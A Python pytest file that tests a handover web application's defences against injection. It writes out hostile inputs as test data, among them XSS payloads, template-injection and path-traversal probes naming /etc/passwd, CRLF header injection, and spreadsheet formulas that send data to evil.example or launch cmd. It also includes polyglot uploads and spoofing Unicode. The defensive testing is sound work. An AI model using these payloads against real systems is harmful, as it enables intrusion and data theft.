"""Page injections: words of a peer, names of files, addresses and papers that want to be more than text."""

import html
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace

import httpx2
import pytest

from adapters.test_printing import paper
from attacks.attack import Attack, Leaves, Strike, against
from attacks.house import House
from attacks.test_fetches import tried
from handover.adapters.printing import TypstPrinter
from handover.application.paper import Run, Text
from handover.application.statistics_sheet import safe
from handover.domain.ids import HandoverId
from handover.pages.routes import PAGES
from handover.pages.shell import POLICY
from handover.protocol import node_entry
from pages.office import Browser, offices
from pages.test_markup import Marks, Written, write
from pages.test_uploads import JPEG, PNG, SCRIPT


@dataclass
class Place:
    """Two offices; the one in the north reads what the one in the south has written."""

    written: Written
    browser: Browser

    @property
    def house(self) -> House:
        return House(self.written.made)

    @property
    def round(self) -> str:
        return f"/office/handovers/{self.written.sent}"

    @property
    def matter(self) -> str:
        return f"/office/matters/{self.written.matter}"


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    with offices(tmp_path_factory.mktemp("pages")) as made:
        written = write(made)
        browser = made.browser(made.north, "reads")
        browser.say_why(written.matter)
        yield Place(written, browser)


def harmless(answer: httpx2.Response, text: str) -> str:
    """Tell whether a page shows a text as what it is, under the policy that lets nothing of a page run."""
    shown = html.unescape(re.sub("<[^>]*>", "", answer.text))
    right = answer.headers["content-security-policy"] == POLICY and not Marks(answer.text).found
    return "nothing" if right and " ".join(text.split()) in " ".join(shown.split()) else "something"


TEXTS = {
    "a-script": ("a script", "<script>alert(1)</script>"),
    "a-picture": (
        "a picture that cannot be loaded, with what is to be done then",
        "<img src=x onerror=alert(1)>",
    ),
    "an-end-of-an-attribute": (
        "a quotation mark, and an attribute behind it",
        '" autofocus onfocus="alert(1)',
    ),
    "an-end-of-a-comment": ("the end of a comment and of a script", "--></script><script>alert(1)</script>"),
    "an-end-of-a-field": ("the end of a field for text", "</textarea></bdi><script>alert(1)</script>"),
    "a-drawing": ("a drawing with a script", "<svg/onload=alert(1)>"),
    "a-frame": ("a frame around another site", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    "a-base": ("another place to which addresses are related", '<base href="https://evil.example/">'),
    "a-template": ("what a template counts", "{{ 7 * 7 }} {% include '/etc/passwd' %} {{ config }}"),
    "an-entity": ("markup that has been escaped once", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    "a-placeholder": ("places that a translation fills", "%(peer)s %s %d {name} %"),
    "a-script-as-address": ("an address that is a script", "javascript:alert(1)"),
    "another-direction": (
        "marks that turn the words behind them round",
        "\u202eyad-suoirav \u2067txet\u2069",
    ),
}


@against(
    *(
        Attack(
            f"question-with-{name}",
            f"A peer's officer asks a question that holds {what}.",
            "nothing",
            with_=text,
        )
        for name, (what, text) in TEXTS.items()
    )
)
def test_a_peers_words_stay_words(place: Place, case: Attack) -> Strike:
    made = place.written.made
    there = made.browser(made.south, "asks").actor
    made.south.node.handovers.ask(HandoverId(place.written.got), text=f"q {case.with_}", actor=there)
    made.fed.settle()
    return place.house.strike(lambda: harmless(place.browser.client.get(place.round), f"q {case.with_}"))


def reflected(query: str) -> Callable[[Place], str]:
    """Open a page by an address with something in it."""

    def open_(place: Place) -> str:
        stranger = place.house.stranger()
        for client in (place.browser.client, stranger):
            answer = client.get(query, follow_redirects=False)
            bad = Marks(answer.text).found or "<script>alert" in answer.text
            if bad or "evil" in answer.headers.get("location", "") or "x-evil" in answer.headers:
                return "something"
        return "nothing"

    return open_


@against(
    Attack(
        "address-with-a-script",
        "A link leads to a page that is not there, with a script in its name.",
        "nothing",
        with_=reflected("/office/%3Cscript%3Ealert(1)%3C/script%3E"),
    ),
    Attack(
        "address-says-a-script",
        "A link has the page say that a script was done.",
        "nothing",
        with_=reflected("/office/help?said=%3Cscript%3Ealert(1)%3C/script%3E"),
    ),
    Attack(
        "address-in-a-language-of-files",
        "A link asks for the page in a language that is a way to a file.",
        "nothing",
        with_=reflected("/office/help?language=../../../../etc/passwd"),
    ),
    Attack(
        "address-with-a-header",
        "A link leads to a page whose name holds a line of the answer's head.",
        "nothing",
        with_=reflected("/office/work%0d%0ax-evil:%201"),
    ),
    Attack(
        "address-of-a-matter-with-a-script",
        "A link leads to a case whose number is a script.",
        "nothing",
        with_=reflected("/office/matters/%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ),
    Attack(
        "address-to-go-on-with-a-script",
        "A link to the sign-in page is to go on with a script.",
        "nothing",
        with_=reflected("/office/sign-in?next=javascript:void(document.title='x')"),
    ),
)
def test_nothing_of_an_address_becomes_a_page(place: Place, case: Attack) -> Strike:
    return place.house.strike(lambda: case.with_(place))


def framed(place: Place) -> str:
    """Look at every page without a part that varies, as an officer and as a stranger."""
    for client in (place.browser.client, place.house.stranger()):
        for page in PAGES:
            if "{" in page.path or page.path.endswith("/provider") or page.get is None or page.path in _ASKS:
                continue
            found = client.get(page.address, follow_redirects=False).headers
            if found["x-frame-options"] != "DENY" or "frame-ancestors 'none'" not in found[CSP]:
                return "something"
    return "nothing"


CSP = "content-security-policy"
_ASKS = (
    "/account/passkey",
    "/account/codes",
    "/step-up",
    "/account/password",
)  # they make something of their own


def lenient(place: Place) -> str:
    """Look for a policy that would let a page run what stands in it, or send a form elsewhere."""
    for path in ("/office/work", "/office/account", "/office/nothing", place.round, "/office/sign-in"):
        policy = place.browser.client.get(path).headers[CSP]
        rules = {rule.split()[0]: rule.split()[1:] for rule in policy.split("; ")}
        strict = rules["default-src"] == ["'none'"] and rules["base-uri"] == ["'none'"]
        own = all(
            rules.get(name) == ["'self'"]
            for name in ("script-src", "style-src", "form-action", "connect-src")
        )
        if not (strict and own) or "unsafe" in policy or "*" in policy:
            return "something"
    return "nothing"


@against(
    Attack(
        "page-in-a-frame",
        "Another site shows a page in a frame and lays its own over it.",
        "nothing",
        with_=framed,
    ),
    Attack(
        "page-with-a-lenient-policy",
        "Somebody looks for a page that runs what stands in it.",
        "nothing",
        with_=lenient,
    ),
)
def test_the_policy_of_pages_holds(place: Place, case: Attack) -> Strike:
    return place.house.strike(lambda: case.with_(place))


def sent(place: Place, data: bytes, name: str, kind: str) -> httpx2.Response:
    return place.browser.post(
        f"{place.matter}/files", {"kind": "photo", "title": "T"}, files={"file": (name, data, kind)}
    )


@against(
    *(
        Attack(f"file-that-is-{name}", f"An officer's machine sends {what} as a picture.", "422", with_=data)
        for name, what, data in (
            ("a-page", "a page with a script", SCRIPT),
            (
                "a-drawing",
                "a drawing with a script",
                b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            ),
            ("a-program", "a program", b"MZ\x90\x00\x03" + b"\0" * 64),
            ("nothing", "nothing", b""),
            ("text-with-marks-of-order", "text in another order of bytes", "<script>".encode("utf-16")),
        )
    )
)
def test_what_is_no_picture_is_not_taken(place: Place, case: Attack) -> Strike:
    return place.house.strike(lambda: str(sent(place, case.with_, "child.jpg", "image/jpeg").status_code))


def given_back(place: Place, data: bytes, name: str) -> Callable[[], str]:
    """Send a file and give what looks at the answer in which it comes back."""
    made = place.written.made
    matter = made.matter()
    at = f"/office/matters/{matter}"
    place.browser.say_why(matter)
    files = {"file": (name, data, "text/html")}
    answer = place.browser.post(f"{at}/files", {"kind": "photo", "title": "T"}, files=files)
    assert answer.status_code == 303, answer.text
    [link] = set(re.findall(rf'href="({at}/files/[^"]+)"', place.browser.get(f"{at}/record")))

    def look() -> str:
        found = place.browser.client.get(link)
        named = re.fullmatch(
            r'attachment; filename="file\.(?:jpg|png|pdf)"', found.headers["content-disposition"]
        )
        kind = found.headers["content-type"] in ("image/jpeg", "image/png", "application/pdf")
        shut = "sandbox" in found.headers[CSP] and found.headers["x-content-type-options"] == "nosniff"
        odd = "x-evil" in found.headers or "evil" in found.headers.get("set-cookie", "")
        return "nothing" if named and kind and shut and not odd and found.content == data else "something"

    return look


@against(
    *(
        Attack(f"file-{name}", f"Somebody sends a file {what}.", "nothing", Leaves.READ, with_=(data, file))
        for name, what, data, file in (
            (
                "with-a-script-behind-its-head",
                "that begins as a picture and goes on as a page",
                JPEG + SCRIPT,
                "x.html",
            ),
            (
                "that-is-two",
                "that is a drawing to one reader and a script to another",
                PNG + b"/*" + SCRIPT,
                "x.js",
            ),
            (
                "with-a-header-in-its-name",
                "whose name holds a line of the answer's head",
                JPEG,
                "x\r\nx-evil: 1\r\n.jpg",
            ),
            (
                "with-a-quote-in-its-name",
                "whose name ends the name and adds another",
                JPEG,
                'x"; filename="evil.exe',
            ),
            ("turned-round", "whose name shows another ending than it has", JPEG, "\u202egpj.exe"),
            ("in-another-folder", "whose name leads to another folder", JPEG, "../../../../etc/cron.d/evil"),
            (
                "with-a-childs-name",
                "whose name is that of a child, for the browser's history",
                JPEG,
                "Leila Ahmadi.jpg",
            ),
        )
    )
)
def test_a_file_comes_back_to_be_saved_under_a_name_of_ours(place: Place, case: Attack) -> Strike:
    data, name = case.with_
    return place.house.strike(given_back(place, data, name))


def cell(text: str) -> str:
    return "nothing" if safe(text) == f"'{text}" else "something"


def set_in_type(text: str) -> str:
    """Print a text, and its letters from behind, which command nothing: both papers hold as much."""
    printer = TypstPrinter()
    made, plain = (printer.pdf(paper(Text(run=Run(text=each)))) for each in (text, text[::-1]))
    return "nothing" if abs(len(made) - len(plain)) < 1000 else "something"


@against(
    *(
        Attack(
            f"cell-with-{name}",
            f"A name in a file for spreadsheets is {what}.",
            "nothing",
            with_=(cell, text),
        )
        for name, what, text in (
            (
                "a-formula",
                "a formula that sends the sheet elsewhere",
                '=HYPERLINK("https://evil.example?"&A1)',
            ),
            ("a-command", "a command for the machine", "@SUM(1+1)*cmd|' /C calc'!A0"),
            ("a-sign", "a sum with a sign before it", "+1+cmd|' /C calc'!A0"),
            ("a-difference", "a difference that is a formula", "-2+3+cmd|' /C calc'!A0"),
            ("a-tab", "a formula behind a tab", "\t=1+1"),
            ("a-line", "a formula on the next line", "\r=1+1"),
        )
    ),
    *(
        Attack(f"paper-with-{name}", f"A name on a paper is {what}.", "nothing", with_=(set_in_type, text))
        for name, what, text in (
            ("a-file", "a command that reads a file of the machine", '#read("/etc/passwd")'),
            ("the-template", "a command that reads the template", '#read("paper.typ")'),
            ("a-package", "a command that fetches a program", '#import "@preview/tablex:0.0.8": *'),
            ("a-loop", "a command that goes on for ever", "#while true [x]"),
            ("a-picture", "a command that puts in a picture", '#image("NotoSans-Bold.ttf")'),
        )
    ),
)
def test_what_is_printed_or_put_into_a_sheet_is_text(place: Place, case: Attack) -> Strike:
    act, text = case.with_
    return place.house.strike(lambda: act(text))


@against(
    *(
        Attack(
            f"authority-named-with-{name}",
            f"A member asks to be listed under a name that holds {what}.",
            "malformed",
            with_=text,
        )
        for name, what, text in (
            ("another-direction", "a mark that turns the words behind it round", "Youth office \u202eneerG"),
            ("an-isolate", "a mark that sets the words behind it apart", "Youth office \u2066Hamburg"),
            ("something-unseen", "a letter that nobody sees", "Youth\u200b office"),
            ("a-line", "a second line", "Youth office\nof Hamburg"),
            ("a-control", "a sign that rings a bell", "Youth office\x07"),
        )
    )
)
def test_no_authority_has_a_deceptive_name(place: Place, case: Attack) -> Strike:
    node = place.house.node
    entry = node.registry.entry(node.id, node.clock())
    named = replace(entry, names={"en": case.with_})
    return place.house.strike(lambda: tried(lambda: node_entry.encode(named)))
